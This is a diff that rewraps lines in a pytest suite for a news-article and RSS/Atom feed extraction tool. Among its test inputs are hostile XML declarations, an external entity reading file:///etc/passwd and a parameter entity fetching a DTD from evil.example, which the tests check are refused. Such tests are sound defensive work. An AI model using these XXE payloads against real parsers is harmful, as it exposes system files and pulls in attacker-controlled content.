@@ -27,7 +27,9 @@ def folder(tmp_path: Path) -> Path:
     (tmp_path / "b.txt").write_text(QUETTA, encoding="utf-8")
     (tmp_path / "a.txt").write_text(GAO, encoding="utf-8")
     (tmp_path / "sub").mkdir()
-    (tmp_path / "sub" / "c.md").write_text(f"---\ntitle: Gao again\ndate: 2021-05-04\nurl: https://news.example/c\n---\n{GAO}", encoding="utf-8")
+    (tmp_path / "sub" / "c.md").write_text(
+        f"---\ntitle: Gao again\ndate: 2021-05-04\nurl: https://news.example/c\n---\n{GAO}", encoding="utf-8"
+    )
     return tmp_path
 
 
@@ -78,7 +80,10 @@ def test_what_cannot_be_read_is_found_or_refused(folder: Path) -> None:
         geo.extract_files(folder, strict=True)
 
 
-@pytest.mark.parametrize(("names", "said"), [([], "holds no article"), (["a.csv"], "it holds a.csv"), (["a.txt", "b.txt"], "none of its 2 articles")])
+@pytest.mark.parametrize(
+    ("names", "said"),
+    [([], "holds no article"), (["a.csv"], "it holds a.csv"), (["a.txt", "b.txt"], "none of its 2 articles")],
+)
 def test_a_folder_without_anything_to_read_is_refused(tmp_path: Path, names: list[str], said: str) -> None:
     for name in names:
         (tmp_path / name).write_text("", encoding="utf-8")
@@ -87,7 +92,10 @@ def test_a_folder_without_anything_to_read_is_refused(tmp_path: Path, names: lis
 
 
 def test_what_a_browser_saves_beside_a_page_is_no_article(tmp_path: Path) -> None:
-    (tmp_path / "page.html").write_text("<html><body>" + f"<p>{GAO} The blast hit the market and traders fled.</p>" * 5 + "</body></html>", encoding="utf-8")
+    (tmp_path / "page.html").write_text(
+        "<html><body>" + f"<p>{GAO} The blast hit the market and traders fled.</p>" * 5 + "</body></html>",
+        encoding="utf-8",
+    )
     (tmp_path / "page_files").mkdir()
     (tmp_path / "page_files" / "frame.html").write_text(f"<html><body><p>{QUETTA}</p></body></html>", encoding="utf-8")
     (tmp_path / ".hidden.txt").write_text(QUETTA, encoding="utf-8")
@@ -111,13 +119,17 @@ def test_a_list_of_files_tells_equal_names_apart(folder: Path) -> None:
 
 def test_the_day_of_publication_by_trust(tmp_path: Path) -> None:
     told = "Two soldiers were killed in Gao, Mali, on Saturday."
-    (tmp_path / "a.md").write_text(f"---\ndate: 2021-05-04\n---\nGAO, Mali, May 10, 2021 (Reuters) - Officials spoke.\n\n{told}", encoding="utf-8")
+    (tmp_path / "a.md").write_text(
+        f"---\ndate: 2021-05-04\n---\nGAO, Mali, May 10, 2021 (Reuters) - Officials spoke.\n\n{told}", encoding="utf-8"
+    )
     (tmp_path / "b.txt").write_text(f"GAO, Mali, May 10, 2021 (Reuters) - Officials spoke.\n\n{told}", encoding="utf-8")
     (tmp_path / "c.txt").write_text(told, encoding="utf-8")
     table = geo.extract_files(tmp_path, published="2021-05-20")
     assert table["published"].tolist() == ["2021-05-04", "2021-05-10", "2021-05-20"]
     assert [str(day)[:10] for day in table["date"]] == ["2021-05-01", "2021-05-08", "2021-05-15"]
-    assert ["metadata" in table["notes"][0], "dateline" in table["notes"][1], "as given" in table["notes"][2]] == [True] * 3
+    assert ["metadata" in table["notes"][0], "dateline" in table["notes"][1], "as given" in table["notes"][2]] == [
+        True
+    ] * 3
     one = geo.extract_files(tmp_path / "a.md", published="2021-05-20")
     assert str(one["date"][0])[:10] == "2021-05-15"
     assert "published-differs" in codes(one)
@@ -129,17 +141,24 @@ def test_a_day_that_is_none_is_refused_once(folder: Path) -> None:
 
 
 def test_a_part_in_another_script_is_said(tmp_path: Path) -> None:
-    (tmp_path / "a.txt").write_text(f"{GAO} {QUETTA}" + "\n\nدو کودک در حمله هوایی ایران به بلوچستان پاکستان کشته و سه نفر زخمی شدند.", encoding="utf-8")
+    (tmp_path / "a.txt").write_text(
+        f"{GAO} {QUETTA}" + "\n\nدو کودک در حمله هوایی ایران به بلوچستان پاکستان کشته و سه نفر زخمی شدند.",
+        encoding="utf-8",
+    )
     table = geo.extract_files(tmp_path / "a.txt")
     assert len(table) == 2
     assert "part-unread" in codes(table)
 
 
-RSS = """<?xml version="1.0" encoding="UTF-8"?>{}<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>News</title>
+RSS = (
+    """<?xml version="1.0" encoding="UTF-8"?>{}<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>News</title>
 <item><title>Blast in Gao</title><link>https://news.example/1</link><guid isPermaLink="false">n1</guid><pubDate>Tue, 04 May 2021 08:00:00 GMT</pubDate>
-<description>Short.</description><content:encoded><![CDATA[<p>Two soldiers were <b>killed</b> when a bomb exploded in Gao, Mali, on Monday.</p><script>x()</script><p>""" + "Traders fled. " * 40 + """</p>]]></content:encoded></item>
+<description>Short.</description><content:encoded><![CDATA[<p>Two soldiers were <b>killed</b> when a bomb exploded in Gao, Mali, on Monday.</p><script>x()</script><p>"""
+    + "Traders fled. " * 40
+    + """</p>]]></content:encoded></item>
 <item><title>Nine killed in Quetta</title><link>https://news.example/2</link><pubDate>Wed, 05 May 2021 08:00:00 GMT</pubDate><description>&lt;p&gt;A blast in Quetta, Pakistan, killed nine people on Tuesday.&lt;/p&gt;</description></item>
 </channel></rss>"""
+)
 ATOM = """<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>News</title><entry><id>tag:news.example,2021:1</id><title>Blast in Gao</title>
 <updated>2021-05-04T08:00:00Z</updated><link href="https://news.example/1"/><content type="html">&lt;p&gt;Two soldiers were killed in Gao, Mali, on Monday.&lt;/p&gt;</content></entry></feed>"""
 
@@ -180,7 +199,12 @@ def test_a_folder_that_leads_back_to_itself_ends(folder: Path) -> None:
 
 
 def test_a_broken_feed_is_read_as_far_as_it_goes(table) -> None:
-    found = geo.extract_files(table(RSS.format("").replace("</channel></rss>", "").replace("<title>News", "<title>News &nbsp; & more"), "feed.rss"))
+    found = geo.extract_files(
+        table(
+            RSS.format("").replace("</channel></rss>", "").replace("<title>News", "<title>News &nbsp; & more"),
+            "feed.rss",
+        )
+    )
     assert len(found) == 2
     assert "feed-broken" in codes(found)
 
@@ -190,7 +214,9 @@ OUTSIDE = '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
 
 
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
-@pytest.mark.parametrize("hostile", [BOMB, OUTSIDE, '<!DOCTYPE rss [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>'])
+@pytest.mark.parametrize(
+    "hostile", [BOMB, OUTSIDE, '<!DOCTYPE rss [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>']
+)
 def test_hostile_xml_is_refused_in_one_line(table, hostile: str, encoding: str) -> None:
     text = RSS.format(hostile).replace("UTF-8", encoding).replace("Blast in Gao", "&a;&c;")
     with pytest.raises(InputError, match="declares entities") as refused:
@@ -199,7 +225,12 @@ def test_hostile_xml_is_refused_in_one_line(table, hostile: str, encoding: str) 
 
 
 def test_an_outer_doctype_is_read_past_without_being_fetched(table) -> None:
-    path = table(RSS.format('<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'), "feed.xml")
+    path = table(
+        RSS.format(
+            '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
+        ),
+        "feed.xml",
+    )
     assert len(geo.extract_files(path)) == 2  # sockets are blocked in the tests
 
 
@@ -217,8 +248,10 @@ def test_feeds_without_articles_are_refused(table, text: str, said: str) -> None
 
 
 def test_a_web_page_is_no_feed() -> None:
-    assert not feeds.is_feed(b'<!DOCTYPE html><html><body><p>An <rss> element</p>')
-    assert feeds.is_feed(b'<?xml version="1.0"?>\n<!-- made by x --><?xml-stylesheet href="a"?><feed xmlns="http://www.w3.org/2005/Atom">')
+    assert not feeds.is_feed(b"<!DOCTYPE html><html><body><p>An <rss> element</p>")
+    assert feeds.is_feed(
+        b'<?xml version="1.0"?>\n<!-- made by x --><?xml-stylesheet href="a"?><feed xmlns="http://www.w3.org/2005/Atom">'
+    )
 
 
 def test_a_summary_day_is_a_day() -> None:
